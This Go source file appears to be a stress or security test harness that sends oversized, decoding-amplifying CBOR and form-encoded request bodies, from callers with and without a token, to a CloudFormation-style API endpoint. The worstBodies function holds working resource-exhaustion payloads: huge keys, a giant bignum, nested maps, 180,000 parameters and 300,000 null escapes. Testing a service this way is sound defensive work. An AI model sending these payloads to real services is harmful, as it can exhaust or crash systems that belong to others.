package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"net/http"
	"strconv"
	"strings"
)

// A growingBody is a body for CloudFormation's API that becomes much larger when it is decoded.
type growingBody struct {
	name string
	body []byte
	cbor bool
}

// growingBodies sends bodies that grow, one half of them without a token, the other with one.
func (a *attackers) growingBodies(ctx context.Context, c *counts) {
	bodies := worstBodies()
	anonymous := &user{http: a.hostile.http}
	repeatInParallel(ctx, 16, func(i int) {
		from, of := anonymous, "an unknown caller"
		if i%2 == 1 {
			from, of = a.hostile, "a user"
		}
		b := bodies[i/2%len(bodies)]
		code, err := from.sendGrowing(ctx, a.base+"/function/cfn/v1", b)
		if ctx.Err() == nil {
			c.answer(b.name+" of "+of, code, err)
		}
	})
}

// sendGrowing sends a body as its format requires.
func (u *user) sendGrowing(ctx context.Context, url string, b growingBody) (code int, err error) {
	header := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}
	if b.cbor {
		url += "/service/CloudFormation/operation/ListStacks"
		header = http.Header{"Content-Type": {"application/cbor"}, "Smithy-Protocol": {"rpc-v2-cbor"}}
	}
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(b.body))
	if err != nil {
		return 0, err
	}
	if r.Header = header; u.token != "" {
		r.Header.Set("X-Auth-Token", u.token)
	}
	answer, err := u.http.Do(r)
	if err != nil {
		return 0, err
	}
	return answer.StatusCode, answer.Body.Close()
}

// worstBodies returns the worst known bodies. In CBOR 0xa1 begins a map with one key, 0x99 a list whose
// length follows in two bytes.
func worstBodies() []growingBody {
	longName := binary.BigEndian.AppendUint32([]byte{0xa1, 0x7a}, 230_000)
	longName = append(longName, strings.Repeat("A", 230_000)...)
	longName = binary.BigEndian.AppendUint16(append(longName, 0x99), 4096)
	longName = append(longName, make([]byte, 4096)...)
	bignum := binary.BigEndian.AppendUint32([]byte{0xa1, 0x61, 'A', 0xc2, 0x5a}, 900_000)
	bignum = append(bignum, bytes.Repeat([]byte{0xff}, 900_000)...)
	maps := []byte{0xa1, 0x61, 'A', 0x98, 200}
	for range 200 {
		maps = append(append(maps, 0x99, 0x10, 0), bytes.Repeat([]byte{0xa0}, 4096)...)
	}
	var names strings.Builder
	for i := range 180_000 {
		names.WriteString("&" + strconv.FormatInt(int64(i), 36))
	}
	version2 := "AWSAccessKeyId=a&Signature=s&SignatureVersion=2&SignatureMethod=HmacSHA256&A="
	return []growingBody{
		{"a long name of a list", longName, true},
		{"a large number", bignum, true},
		{"800,000 maps", maps, true},
		{"180,000 names", []byte("Action=ListStacks" + names.String()), false},
		{"escapes", []byte(version2 + strings.Repeat("%00", 300_000)), false},
	}
}
